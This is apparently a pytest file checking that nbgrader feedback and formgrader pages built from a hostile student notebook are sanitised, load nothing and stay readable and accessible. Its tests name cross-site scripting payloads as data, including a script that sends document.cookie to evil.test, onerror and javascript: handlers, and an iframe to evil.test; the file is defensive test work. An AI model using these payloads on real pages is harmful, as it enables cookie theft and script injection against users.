"""What learners and markers get to see of graded work: readable, complete without a network, and harmless."""

import base64
import hashlib
import os
import re
import shutil
import subprocess
import sys
from collections import Counter
from pathlib import Path

import hostile_notebook as hostile
import odd_notebook
import pytest
from bs4 import BeautifulSoup

from utils.grading.sheet import page

ROOT = Path(__file__).resolve().parent.parent
OURS = "from utils.grading.feedback import settings\nsettings(c)"
SETTINGS = {"ours": OURS, "stock": "", "no preprocessor": f"{OURS}\ndel c.HTMLExporter.preprocessors"}
FORMGRADER = """
import os, sys
from tornado.web import Application
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

about = dict(assignment_id="a", notebook_id="n", submission_id="s", index=0, total=1, base_url="", student="ada",
             last_name="", first_name="", notebook_path="n.ipynb")
notebook, *courses = sys.argv[1:]
for course in courses:
    os.chdir(course)  # as `jupyter lab` is started in the course
    app, web = FormgradeExtension(), Application()
    app.root_dir = course
    app.initialize([])
    app.init_tornado_settings(web)
    page, _ = web.settings["nbgrader_exporter"].from_filename(notebook, resources=about)
    open("page.html", "w", encoding="utf-8").write(page)
"""


def run_in(home, *command):
    apart = {"JUPYTER_CONFIG_DIR": str(home / "jupyter"), "IPYTHONDIR": str(home / "ipython")}
    apart |= {"JUPYTER_DATA_DIR": str(home / "data"), "PYTHONUTF8": "1"}
    ended = subprocess.run([sys.executable, *command], cwd=home, env=os.environ | apart, text=True, capture_output=True)
    assert ended.returncode == 0, ended.stderr


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """The feedback pages of the hostile notebook by the real command: {"ours": HTML, "stock": HTML}."""
    home = tmp_path_factory.mktemp("feedback")
    hostile.gradebook(home / "gradebook.db")
    found = {}
    for name in ("ours", "stock"):
        place = home / name
        hostile.course(place, SETTINGS[name])
        shutil.copy(home / "gradebook.db", place)
        run_in(place, "-m", "nbgrader", "generate_feedback", hostile.LESSON)
        written = list((place / "feedback" / hostile.STUDENT / hostile.LESSON).iterdir())
        assert [path.name for path in written] == [f"{hostile.NOTEBOOK}.html"]
        found[name] = written[0].read_text(encoding="utf-8")
    return found


@pytest.fixture(scope="module")
def feedback(pages):
    """The feedback page of the hostile notebook."""
    return pages["ours"]


@pytest.fixture(scope="module")
def formgrader(tmp_path_factory):
    """The pages that formgrader sends: of the hostile notebook under each of SETTINGS, and of a "mild" one."""
    home = tmp_path_factory.mktemp("formgrader")
    for name, extra in SETTINGS.items():
        hostile.course(home / name, extra)
    hostile.course(home / "mild", OURS, mild=True)
    courses = [home / name for name in (*SETTINGS, "mild")]
    run_in(home, "-c", FORMGRADER, f"autograded/{hostile.STUDENT}/{hostile.LESSON}/{hostile.NOTEBOOK}.ipynb", *courses)
    return {course.name: (course / "page.html").read_text(encoding="utf-8") for course in courses}


def words(*texts):
    """The words by which each attack can be recognised."""
    return sorted(set(re.findall(r"word\d\d", " ".join(texts))))


def test_a_feedback_page_holds_nothing_that_runs_or_loads(feedback):
    assert hostile.Finder(feedback).found == []


def test_every_attack_can_be_read_as_text(feedback):
    text = hostile.Finder(feedback).text
    everything = words(*hostile.MARKDOWN, hostile.CODE, hostile.PRINTED, hostile.RAISED, "word65 word70")
    assert [word for word in everything if word not in text] == []
    for piece in (
        "<script>fetch('http://evil.test/'+document.cookie)</script>",
        "word64 </pre><script>alert(1)",
        "got <b>3",
    ):
        assert piece in text


def test_a_feedback_page_says_what_a_learner_wants_to_know(feedback):
    text = " ".join(hostile.Finder(feedback).text.split())
    for piece in (
        "A small lesson ada · small 4 of 10 points 1 answer will be read by a person",
        "double 4 of 6 points why waits to be read, up to 4 points",
        "Exercise · double def double(x): # word50",
        "double: not right yet. y_pred[0]: got <b>3</b> a 3 of 3 · b 1 of 3",
        "Comment: Nearly: look at",
    ):
        assert piece in text
    assert "Prose:" not in text  # the lesson's own text stays in the lesson
    assert feedback.count("data:image/png;base64,") == 2  # one in each of the two cells with outputs


@pytest.fixture(scope="module")
def odd():
    """The feedback page of the notebook that is hard to show, as a tree."""
    return BeautifulSoup(page(odd_notebook.notebook(), odd_notebook.ABOUT), "html.parser")


def test_a_feedback_page_has_one_outline_whatever_a_student_wrote(odd):
    assert odd.html["lang"] == "en"
    assert [part.name for part in odd.body.find_all(recursive=False)] == ["main"]
    assert [(part.name, part.text[:20]) for part in odd.find_all(re.compile("^h[1-6]$"))] == [
        ("h1", "A small lesson"),
        ("h2", "Exercise · double"),
        ("h2", "# Mine $\\frac{\\parti"),
        ("h2", "Written question"),
    ]


def test_the_points_are_a_table_that_names_itself_and_leads_to_the_exercises(odd):
    table = odd.main.find("table", recursive=False)
    assert table.caption.text == "Points by exercise"
    assert [[cell.get("scope") for cell in row.find_all(["th", "td"])] for row in table.find_all("tr")] == [
        ["col", "col"],
        *[["row", None]] * 4,
    ]
    places = [part["id"] for part in odd.find_all(id=True)]
    assert [link["href"] for link in table.find_all("a")] == [f"#{place}" for place in places]
    assert len(set(places)) == 4


def test_everything_in_a_feedback_page_has_words(odd):
    assert [image["alt"][:60] for image in odd.find_all("img")] == [
        *["a plot drawn by the code: y_pred = softmax_of_the_statesoftm"] * 2,
        'a plot drawn by the code: "<b>"',
    ]
    assert [part for part in odd.find_all(["a", "summary", "th", "caption"]) if not part.text.strip()] == []
    assert "printed: line … 500 lines" in [part.text for part in odd.find_all("summary")]


def test_only_what_a_person_wrote_scrolls_and_the_keyboard_reaches_it(odd):
    written = odd.select(".answer, .comment")
    assert {(part["tabindex"], part["role"]) for part in written} == {("0", "region")}
    labels = [part["aria-label"] for part in written]
    assert labels == ["Comment: double", "Answer: why", "Comment: why", f"Answer: {'h' * 100}"]
    style = odd.style.string
    assert ".answer, .comment { overflow-x: auto; }" in style
    assert len(re.findall(r"overflow(?!-wrap)|max-height|nowrap|white-space: pre;", style)) == 1


def test_a_browser_is_told_to_load_nothing(feedback):
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', feedback)[1]
    style = re.search(r"<style>(.*)</style>", feedback, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert "default-src 'none'" in policy and f"style-src 'sha256-{digest}'" in policy
    assert "script-src" not in policy and "unsafe" not in policy


def test_formgrader_shows_nothing_of_a_students_that_runs_or_loads(formgrader):
    page = formgrader["ours"]
    own, seen = hostile.Finder(formgrader["mild"]), hostile.Finder(page)
    assert own.found and Counter(seen.found) == Counter(own.found)  # formgrader's own scripts and buttons
    assert "http" not in " ".join(seen.found) and "MathJax" not in page
    everything = words(*hostile.MARKDOWN, hostile.CODE, hostile.PRINTED, hostile.RAISED, "word65")
    assert [word for word in everything if word not in seen.text] == []
    assert "<msup><mi>a</mi>" in page and "<strong>4 of 6 points</strong>" in page


def test_without_our_settings_the_attacks_are_found(pages, formgrader):
    stock = hostile.Finder(pages["stock"])
    for attack in (
        "<script>",
        '<img onerror="alert(1)">',
        '<a href="javascript:alert(1)">',
        '<iframe src="http://evil.test/">',
        '<meta http-equiv="refresh">',
        "style that loads",
        '<script src="https://cdnjs',
    ):
        assert any(line.startswith(attack) for line in stock.found), attack
    stock = hostile.Finder(formgrader["stock"])
    assert '<img onerror="alert(1)">' in stock.found and '<a href="javascript:alert(1)">' in stock.found
    partly = hostile.Finder(formgrader["no preprocessor"])
    assert Counter(partly.found) - Counter(hostile.Finder(formgrader["mild"]).found)


def test_the_settings_import_nothing_heavy():
    heavy = "import sys, utils.grading.feedback; print(sorted({'nbgrader', 'nbconvert', 'numpy'} & set(sys.modules)))"
    ended = subprocess.run([sys.executable, "-c", heavy], cwd=ROOT, text=True, capture_output=True, check=True)
    assert ended.stdout == "[]\n"
